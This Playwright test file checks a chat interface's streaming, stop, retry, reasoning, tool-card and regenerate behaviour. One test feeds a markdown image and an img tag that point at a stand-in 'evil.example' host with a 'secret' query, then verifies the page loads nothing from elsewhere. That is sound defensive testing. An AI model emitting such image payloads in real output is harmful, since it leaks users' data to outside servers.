import { randomUUID } from 'node:crypto'
import { startApp } from './own-app.ts'
import { expect, longStory, test } from './page.ts'

test('says where answers come from, and offers a start', async ({ chat }) => {
  await expect(chat.page.getByTestId('place')).toHaveText('Local Bedrock (simulated)')
  await chat.page.getByRole('button', { name: /markdown/ }).click()
  await chat.settled()
  await expect(chat.answer.getByRole('table')).toBeVisible()
  await expect(chat.answer.getByRole('heading').first()).toBeVisible()
  await expect(chat.answer.locator('pre').first()).toBeVisible()
  await expect(chat.answer.getByText(/tokens in/)).toBeVisible()
})

test('text grows while the answer comes', async ({ chat }) => {
  await chat.send(longStory)
  await expect(chat.stop).toBeVisible()
  const lengths = new Set<number>()
  await expect.poll(async () => lengths.add((await chat.text()).length).size, { intervals: [100] }).toBeGreaterThan(5)
  await expect(chat.stop).toBeVisible()
  const seen = [...lengths]
  expect(seen).toEqual(seen.toSorted((a, b) => a - b))
  await chat.stop.click()
})

for (const [how, act] of [
  ['the button', 'click'],
  ['Escape', 'Escape'],
] as const)
  test(`${how} stops an answer, keeps what came, and the conversation goes on`, async ({ chat }) => {
    await chat.send(longStory)
    await expect.poll(async () => (await chat.text()).length).toBeGreaterThan(60)
    if (act === 'click') await chat.stop.click()
    else await chat.field.press(act)
    await expect(chat.stop).toBeHidden()
    await expect(chat.answer.getByText('Stopped')).toBeVisible()
    const kept = await chat.text()
    await chat.page.waitForTimeout(600)
    expect(await chat.text()).toBe(kept)
    await chat.send('echo and on it goes')
    await chat.settled()
    await expect(chat.answer).toContainText('and on it goes')
    await chat.page.reload()
    const first = chat.page.getByTestId('answer').first()
    await expect(first.getByText('Stopped')).toBeVisible()
    await expect(chat.page.getByText('Broke off')).toHaveCount(0)
  })

test('a failure that passes before the first word is not seen', async ({ chat }) => {
  // The script counts how often a prompt has failed: each must be new to it.
  await chat.send(`fail twice busy (${randomUUID()})`)
  await expect(chat.answer).toContainText('This is the third one, and it went through')
  await chat.settled()
  await expect(chat.page.getByTestId('problem')).toBeHidden()
})

for (const [kind, words] of [
  ['that lasts, before the first word', 'thrice busy'],
  ['in mid-answer', 'once midway'],
  ['by a cut connection', 'once cut'],
] as const)
  test(`a failure ${kind} is told, and trying again helps`, async ({ chat }) => {
    await chat.send(`fail ${words} (${randomUUID()})`)
    await expect(chat.page.getByTestId('problem')).toContainText('Please try again')
    await expect(chat.status).toContainText('try again')
    await chat.page.getByRole('button', { name: 'Try again' }).click()
    await expect(chat.answer).toContainText('it went through')
    await chat.settled()
    await expect(chat.page.getByTestId('problem')).toBeHidden()
    await expect(chat.page.getByTestId('answer')).toHaveCount(1)
  })

for (const [kind, words] of [
  ['failed', 'once midway'],
  ['lost its connection', 'once cut'],
] as const)
  test(`an answer that ${kind} says that it broke off, not that somebody stopped it`, async ({ chat }) => {
    await chat.send(`fail ${words} (${randomUUID()})`)
    await expect(chat.page.getByTestId('problem')).toContainText('Please try again')
    await expect(chat.answer.getByText('Broke off')).toBeVisible()
    await chat.page.reload()
    await expect(chat.answer.getByText('Broke off')).toBeVisible()
    await expect(chat.status).toContainText('The answer broke off')
    await chat.send('echo and on it goes')
    await chat.settled()
    await expect(chat.page.getByText('Broke off')).toHaveCount(1)
    await expect(chat.page.getByText('Stopped')).toHaveCount(0)
  })

test('a question that failed can be asked again after a reload', async ({ chat }) => {
  await chat.send(`fail thrice busy (${randomUUID()})`)
  const problem = chat.page.getByTestId('problem')
  await expect(problem).toContainText('Please try again')
  await chat.page.reload()
  await expect(problem).toContainText('no answer yet')
  await problem.getByRole('button', { name: 'Try again' }).click()
  await expect(chat.answer).toContainText('it went through')
  await expect(problem).toHaveCount(0)
})

test('reasoning tells how long it took, and can be opened after the answer', async ({ chat }) => {
  // Slow enough that the page sees it think, however slow the machine.
  const app = await startApp({ LOCAL_BEDROCK_TOKENS_PER_SECOND: '30' })
  try {
    await chat.page.goto(app.url)
    await chat.send('think: what is up')
    await expect(chat.answer.getByRole('button', { name: 'Thinking…' })).toHaveAttribute('aria-expanded', 'true')
    await chat.settled()
    const thoughts = chat.answer.getByRole('button', { name: /^Thought for \d+\.\d s$/ })
    await expect(thoughts).toHaveAttribute('aria-expanded', 'false')
    await thoughts.click()
    await expect(chat.answer).toContainText('First I look at what is wanted')
  } finally {
    app.stop()
  }
})

test('a tool runs on the server, its card tells how, and the next question is answered', async ({ chat }) => {
  await chat.send('What is the weather in Lisbon?')
  await chat.settled()
  const card = chat.answer.getByTestId('tool')
  await expect(card).toContainText('weather')
  await expect(card).toContainText('Done')
  await card.getByRole('button').click()
  await expect(card).toContainText('example data')
  await expect(chat.answer).toContainText('Here is what came back')
  await chat.send('echo thank you')
  await chat.settled()
  await expect(chat.answer).toContainText('thank you')
})

test('an answer can be asked for again', async ({ chat }) => {
  await chat.send('echo once more')
  await chat.settled()
  await chat.page.getByRole('button', { name: 'Answer again' }).click()
  await chat.settled()
  await expect(chat.page.getByTestId('answer')).toHaveCount(1)
  await expect(chat.answer).toContainText('once more')
})

test('nothing a model writes makes the page load from elsewhere', async ({ chat }) => {
  const elsewhere: string[] = []
  chat.page.on('request', (request) => {
    if (!request.url().startsWith(new URL(chat.page.url()).origin) && !request.url().startsWith('data:'))
      elsewhere.push(request.url())
  })
  await chat.send('echo ![a](https://evil.example/a.png?secret) <img src="https://evil.example/b.png"> done')
  await chat.settled()
  await expect(chat.answer).toContainText('done')
  await chat.page.waitForTimeout(300)
  expect(elsewhere).toEqual([])
  await expect(chat.answer.locator('img')).toHaveCount(0)
})

test('a new conversation starts empty', async ({ chat }) => {
  await chat.send('echo hello')
  await chat.settled()
  await chat.page.getByRole('link', { name: 'New conversation' }).click()
  await expect(chat.page.getByTestId('answer')).toHaveCount(0)
  await expect(chat.page.getByRole('heading', { level: 2 })).toBeVisible()
  await expect(chat.field).toBeFocused()
})
